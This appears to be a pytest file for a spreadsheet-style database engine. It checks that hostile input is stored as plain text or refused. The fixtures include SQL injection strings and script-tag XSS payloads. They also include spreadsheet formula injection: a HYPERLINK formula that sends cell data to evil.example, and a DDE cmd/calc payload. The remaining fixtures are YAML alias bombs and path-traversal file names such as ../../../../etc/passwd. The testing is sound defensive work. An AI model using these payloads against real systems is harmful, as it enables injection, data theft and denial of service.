"""Hostile input at the engine and command-line level: SQL metacharacters, HTML/JS, broken
files, spreadsheet formula injection and YAML bombs. Each either works as plain text or is
refused with a clear message; nothing is dropped, run or half-imported."""

from __future__ import annotations

import csv
import io
import re
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from reliability_support import gridbase, integrity

from engine import Workspace
from engine.errors import ConfigError, GridbaseError, QueryError, ValidationError
from engine.loader import load_workspace
from engine.transfer import DANGEROUS_START, neutralise
from tests_support import WORKSPACE_YAML, write_workspace

EVIL_SQL = "x'); DROP TABLE \"t__items\"; --"
HTML = "<script>alert('x')</script><img src=x onerror=alert(1)>"

BASE = """\
base: t
name: Hostile
description: "<b>base</b> <script>alert('desc')</script>"
tables:
  items:
    name: "Items <script>alert('table')</script>"
    primary: title
    fields:
      title: {type: text, name: "x'); DROP TABLE y; --"}
      body: {type: long_text, name: "Body <img src=x onerror=alert(1)>", description: "<script>alert('help')</script>"}
      rich: {type: long_text, name: Rich, rich: true}
      kind: {type: single_select, name: Kind, options: ["<script>alert('opt')</script>", plain]}
      tags: {type: multi_select, name: Tags, options: ["<b>t</b>", "x'; --"]}
      site: {type: url, name: Site}
      mail: {type: email, name: Mail}
      phone: {type: phone, name: Phone}
      n: {type: number, name: N}
      unit: {type: text, name: Unit}
      when: {type: date, name: When}
      files: {type: attachment, name: Files}
      later: {type: formula, name: Later, formula: "DATEADD({when}, 1, {unit})"}
      fixed: {type: formula, name: Fixed, formula: 'DATEADD({when}, 1, "days''); DROP TABLE x; --")'}
    forms:
      report:
        name: "Report <script>alert('form')</script>"
        fields:
          - {field: title, label: "<i>Title</i>", help: "<script>alert('formhelp')</script>"}
          - body
"""


@pytest.fixture
def ws(make_workspace: Callable[..., Workspace]) -> Workspace:
    return make_workspace({"t": BASE})


def _tables(ws: Workspace) -> set[str]:
    return set(ws.storage.tables())


# -- SQL metacharacters ------------------------------------------------------------------------
def test_sql_metacharacters_in_values_filters_and_sorts_are_inert(ws: Workspace) -> None:
    table = ws.base("t").table("items")
    before = _tables(ws)
    rec = table.create({"title": EVIL_SQL, "body": "'; DELETE FROM _gb_audit; --", "unit": EVIL_SQL,
                        "when": "2026-01-01"}, actor="admin")
    assert rec["fields"]["title"] == EVIL_SQL
    # The field NAME with SQL in it is just a display name.
    assert table.tdef.fields["title"].name == "x'); DROP TABLE y; --"
    assert table.query(actor="admin", filter={"title": EVIL_SQL}).records[0]["id"] == rec["id"]
    assert table.query(actor="admin", filter={"title": {"contains": "'); DROP"}}).records
    assert table.query(actor="admin", filter={"title": "' OR '1'='1"}).records == []
    for sort in (["title; DROP TABLE t__items"], ['title" DESC; --'], ["-x'--"]):
        with pytest.raises(QueryError, match="unknown field"):
            table.query(actor="admin", sort=sort)
    for flt in ({'title" = title OR "1': "a"}, {"title": {"eq'; --": "a"}}):
        with pytest.raises(QueryError):
            table.query(actor="admin", filter=flt)
    with pytest.raises(QueryError):
        table.query(actor="admin", filter={"formula": "{title} = '' OR 1=1); DROP TABLE t__items; --"})
    with pytest.raises(ValidationError, match="unknown field"):
        table.create({'title" ) --': "x"}, actor="admin")
    assert _tables(ws) == before
    assert ws.storage.conn.execute("SELECT count(*) FROM _gb_audit").fetchone()[0] >= 1
    assert integrity(ws.storage.path) == "ok"


def test_formula_unit_injection_gives_an_error_value(ws: Workspace) -> None:
    table = ws.base("t").table("items")
    before = _tables(ws)
    rec = table.create({"title": "f", "when": "2026-01-01", "unit": "days'); DROP TABLE x; --"}, actor="admin")
    later = rec["fields"].get("later")
    assert later in (None, "") or isinstance(later, dict) and "error" in later or "#ERROR" in str(later).upper(), later
    fixed = rec["fields"].get("fixed")
    assert fixed is None or "2026-01-02" not in str(fixed)
    ok = table.update(rec["id"], {"unit": "days"}, actor="admin")
    assert str(ok["fields"]["later"]).startswith("2026-01-02")
    assert _tables(ws) == before


@pytest.mark.parametrize("key", ['a"b', "a'b", "a;b", "a b", "a-b", "x); --", ""])
def test_bad_field_keys_are_refused_with_a_position(tmp_path: Path, key: str) -> None:
    text = BASE.replace("      n: {type: number, name: N}", f"      '{key.replace(chr(39), chr(39) * 2)}': {{type: number, name: N}}")
    root = write_workspace(tmp_path / "ws", {"t": text})
    with pytest.raises(ConfigError) as caught:
        load_workspace(root)
    assert re.search(r"t\.yaml:\d+:\d+: ", str(caught.value)), str(caught.value)


# -- HTML / JS ---------------------------------------------------------------------------------
def test_html_in_every_text_like_value_round_trips_as_text(ws: Workspace) -> None:
    table = ws.base("t").table("items")
    stored: dict[str, object] = {}
    refused: list[str] = []
    for key, value in [("title", HTML), ("body", HTML), ("rich", HTML), ("unit", HTML),
                       ("kind", "<script>alert('opt')</script>"), ("tags", ["<b>t</b>", "x'; --"]),
                       ("site", "javascript:alert(1)"), ("mail", f"a{HTML}@x.org"), ("phone", HTML), ("n", HTML),
                       ("when", HTML)]:
        try:
            rec = table.create({"title": "h", key: value} if key != "title" else {key: value}, actor="admin")
        except ValidationError:
            refused.append(key)
            continue
        stored[key] = rec["fields"].get(key)
    for key in ("title", "body", "rich", "unit"):
        assert stored[key] == HTML
    assert stored["kind"] == "<script>alert('opt')</script>"
    assert stored["tags"] == ["<b>t</b>", "x'; --"]
    # Types with a shape refuse markup instead of storing it.
    assert {"n", "when", "phone", "mail"} <= set(refused), refused
    if "site" not in refused:
        pytest.fail(f"a javascript: URL was stored: {stored['site']!r}")


def test_retype_to_rich_long_text_keeps_text_inert(tmp_path: Path, database: Callable[[], str | Path]) -> None:
    root = write_workspace(tmp_path / "ws", {"t": BASE})
    db = database()
    ws = Workspace.open(root, db=db)
    ws.apply()
    rec = ws.base("t").table("items").create({"title": "r", "body": HTML}, actor="admin")
    ws.close()
    (root / "bases" / "t.yaml").write_text(BASE.replace(
        'body: {type: long_text, name: "Body <img src=x onerror=alert(1)>",',
        'body: {type: long_text, rich: true, name: "Body <img src=x onerror=alert(1)>",'), encoding="utf-8")
    ws = Workspace.open(root, db=db)
    try:
        ws.apply()
        assert ws.base("t").table("items").tdef.fields["body"].options.get("rich") is True
        assert ws.base("t").table("items").get(rec["id"], actor="admin")["fields"]["body"] == HTML
    finally:
        ws.close()


def _web_client(ws: Workspace) -> object:
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # starlette prefers httpx2 for TestClient; httpx works
            from starlette.testclient import TestClient

        from gridbase.app import create_app
    except ImportError as exc:  # pragma: no cover - depends on the web helpers' progress
        pytest.skip(f"the web app cannot be imported: {exc}")
    return TestClient(create_app(ws, automations=False), base_url="http://testserver")


def _csrf(html: str) -> str:
    token = re.search(r'name="csrf_token" value="([^"]+)"', html) or re.search(r'name="csrf-token" content="([^"]+)"', html)
    assert token, "no CSRF token in the page"
    return token.group(1)


class _SignedIn:
    """A TestClient context that signs in as admin on entry."""

    def __init__(self, ws: Workspace) -> None:
        self.client: Any = _web_client(ws)

    def __enter__(self) -> Any:
        c = self.client.__enter__()
        login = c.post("/login", data={"username": "admin", "password": "reliable-pass-1",
                                       "csrf_token": _csrf(c.get("/login").text), "next": "/"}, follow_redirects=False)
        assert login.status_code == 303, login.text
        return c

    def __exit__(self, *exc: object) -> None:
        self.client.__exit__(*exc)


def _signed_in(ws: Workspace) -> _SignedIn:
    from engine.auth import hash_password

    with ws.storage.transaction():
        ws.storage.conn.execute("UPDATE _gb_people SET password_hash = ? WHERE key = 'admin'",
                                (hash_password("reliable-pass-1"),))
    return _SignedIn(ws)


def test_html_is_escaped_on_record_page_and_form(ws: Workspace) -> None:
    table = ws.base("t").table("items")
    rec = table.create({"title": HTML, "body": HTML, "rich": HTML, "kind": "<script>alert('opt')</script>"}, actor="admin")
    with _signed_in(ws) as c:
        pages = [c.get(f"/b/t/t/items/r/{rec['id']}"), c.get("/b/t/t/items"), c.get("/f/t/report")]
        for response in pages:
            assert response.status_code == 200, (response.url, response.status_code)
            assert "<script>alert(" not in response.text, response.url
            assert "onerror=alert(1)>" not in response.text, response.url
        assert "&lt;script&gt;alert(" in pages[0].text  # shown, as text


# -- CSV / XLSX import -------------------------------------------------------------------------
@pytest.mark.parametrize("name, content, message", [
    ("latin1.csv", "标题\n".encode() + b"caf\xe9 \xff\xfe\x80\x81\n", "not UTF-8 or GB18030|save it as UTF-8"),
    ("nul.csv", "标题\nab\x00cd\n".encode(), "not UTF-8 or GB18030|save it as UTF-8"),
    ("empty.csv", b"", "no header row"),
    ("fake.xlsx", b"this is not a zip file at all", "not a readable XLSX"),
    ("nomatch.csv", b"who,what\n1,2\n", "column .who. matches no field"),
])
def test_broken_import_files_are_refused_and_import_nothing(tmp_path: Path, name: str, content: bytes,
                                                               message: str, database: Callable[[], str | Path]) -> None:
    root = write_workspace(tmp_path / "ws", {"t": BASE})
    db = database()
    path = tmp_path / name
    path.write_bytes(content)
    result = gridbase("import", str(root), "t.items", str(path), "--as", "admin", "--db", str(db))
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert re.search(message, result.stderr), result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    ws = Workspace.open(root, db=db)
    try:
        assert ws.storage.conn.execute('SELECT count(*) FROM "t__items"').fetchone()[0] == 0
    finally:
        ws.close()


def test_header_only_csv_imports_zero_rows(tmp_path: Path) -> None:
    root = write_workspace(tmp_path / "ws", {"t": BASE})
    path = tmp_path / "header.csv"
    path.write_text("title,body\n", encoding="utf-8")
    result = gridbase("import", str(root), "t.items", str(path), "--as", "admin")
    assert result.returncode == 0, result.stderr
    assert "imported 0 row(s)" in result.stdout


# -- export formula injection ------------------------------------------------------------------
DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
             "\t=1+1", "\r=1+1"]


def test_export_neutralises_formula_injection(tmp_path: Path, database: Callable[[], str | Path]) -> None:
    root = write_workspace(tmp_path / "ws", {"t": BASE})
    db = database()
    ws = Workspace.open(root, db=db)
    ws.apply()
    table = ws.base("t").table("items")
    for text in DANGEROUS:
        table.create({"title": text, "body": text}, actor="admin")
    ws.close()
    out_csv = tmp_path / "out.csv"
    out_xlsx = tmp_path / "out.xlsx"
    assert gridbase("export", str(root), "t.items", "--out", str(out_csv), "--db", str(db)).returncode == 0
    done = gridbase("export", str(root), "t.items", "--format", "xlsx", "--out", str(out_xlsx), "--db", str(db))
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8-sig"), newline="")))
    cells = [c for row in rows[1:] for c in row[:2]]
    from openpyxl import load_workbook

    book = load_workbook(out_xlsx)
    sheet = book.worksheets[0]
    xcells = [sheet.cell(row=r, column=c) for r in range(2, sheet.max_row + 1) for c in (1, 2)]
    for text in DANGEROUS:
        # Text fields trim surrounding whitespace, so "\t=1+1" is stored (and neutralised) as "=1+1".
        assert "'" + text.strip() in cells, text
    for cell_text in cells:
        assert not cell_text.startswith(DANGEROUS_START), cell_text
    for text in DANGEROUS:  # the neutraliser itself, for values that keep a leading tab or CR
        assert neutralise(text).startswith("'")
    for cell in xcells:
        assert cell.data_type == "s", (cell.value, cell.data_type)
        assert str(cell.value).startswith("'"), cell.value
    book.close()
    # The field name containing a quote is written as text too.
    assert rows[0][0] == "x'); DROP TABLE y; --"


# -- YAML bombs --------------------------------------------------------------------------------
def _bomb() -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 9):
        refs = ", ".join(f"*a{i - 1}" for _ in range(9))
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "base: t\nname: bomb\n" + "\n".join(lines) + "\ntables: {}\n"


def _deep(levels: int) -> str:
    text = "base: t\nname: deep\ntables:\n  items:\n    name: x\n    fields: {}\n    x: "
    return text + "{a: " * levels + "1" + "}" * levels + "\n"


@pytest.mark.parametrize("label, make, message", [
    ("bomb", _bomb, "more than .* values|aliases"),
    ("deep", lambda: _deep(100), "nesting deeper than"),
    ("big", lambda: "base: t\nname: big\n# " + "x" * 6_000_000 + "\ntables: {}\n", "larger than"),
])
def test_yaml_bombs_are_refused_with_file_line_col(tmp_path: Path, label: str, make: Callable[[], str],
                                                   message: str) -> None:
    root = write_workspace(tmp_path / "ws", {})
    (root / "bases" / "t.yaml").write_text(make(), encoding="utf-8")
    result = gridbase("validate", str(root))
    assert result.returncode == 1, result.stdout
    assert re.search(r"t\.yaml:\d+:\d+: ", result.stderr), result.stderr[:500]
    assert re.search(message, result.stderr), result.stderr[:500]
    with pytest.raises(ConfigError):
        load_workspace(root)


def test_workspace_yaml_bomb_is_refused(tmp_path: Path) -> None:
    root = write_workspace(tmp_path / "ws", {"t": BASE}, WORKSPACE_YAML + "\nextra: " + "[" * 100 + "]" * 100 + "\n")
    with pytest.raises(ConfigError, match=r"workspace\.yaml:\d+:\d+: .*nesting deeper"):
        load_workspace(root)


# -- attachments -------------------------------------------------------------------------------
def test_attachment_names_are_stored_safely(ws: Workspace) -> None:
    try:
        from views.pages import files
    except ImportError:
        pytest.skip("views.pages.files (upload) is not available")
    table = ws.base("t").table("items")
    rec = table.create({"title": "with files"}, actor="admin")
    client = _signed_in(ws)
    with client as c:  # type: ignore[attr-defined]
        token = _csrf(c.get(f"/b/t/t/items/r/{rec['id']}").text)
        names = ["../../../../etc/passwd", "a\x00b.txt", "..\\..\\win.ini", "<script>x</script>.png"]
        for name in names:
            response = c.post(f"/b/t/t/items/r/{rec['id']}/attach/files", headers={"X-CSRF-Token": token},
                              files={"file": (name, b"hello", "text/plain")}, follow_redirects=False)
            assert response.status_code in (303, 422), (name, response.status_code, response.text[:200])
        page = c.get(f"/b/t/t/items/r/{rec['id']}")
        assert "<script>x</script>" not in page.text
        stored = [r[0] for r in ws.storage.conn.execute("SELECT name FROM _gb_attachments")]
        assert stored, "no upload was stored"
        for name in stored:
            assert "/" not in name and "\\" not in name, name
        for (att,) in ws.storage.conn.execute("SELECT id FROM _gb_attachments"):
            got = c.get(f"/att/{att}")
            disposition = got.headers.get("content-disposition", "")
            assert "\x00" not in disposition and "/" not in disposition.split("filename*=")[0], disposition
    blobs = [p for p in (ws.data_dir / "attachments").rglob("*") if p.is_file()]
    assert blobs and all(p.resolve().is_relative_to((ws.data_dir / "attachments").resolve()) for p in blobs)
    assert files.content_disposition("a\x00b/../c.txt").count("\x00") == 0


def test_cli_never_shows_a_traceback_for_bad_arguments(tmp_path: Path) -> None:
    root = write_workspace(tmp_path / "ws", {"t": BASE})
    for args in (["export", str(root), "nope.table"], ["export", str(root), "t.items", "--as", "'; DROP TABLE x; --"],
                 ["import", str(root), "t.items", str(tmp_path / "missing.csv")]):
        result = gridbase(*args)
        assert result.returncode in (1, 2), args
        assert "Traceback" not in result.stderr, result.stderr
        assert result.stderr.startswith("error:"), (args, result.stderr)


def test_gridbase_error_type_for_import_of_missing_table(tmp_path: Path, database: Callable[[], str | Path]) -> None:
    root = write_workspace(tmp_path / "ws", {"t": BASE})
    ws = Workspace.open(root, db=database())
    try:
        ws.apply()
        with pytest.raises(GridbaseError):
            ws.base("t").table("nope")
    finally:
        ws.close()
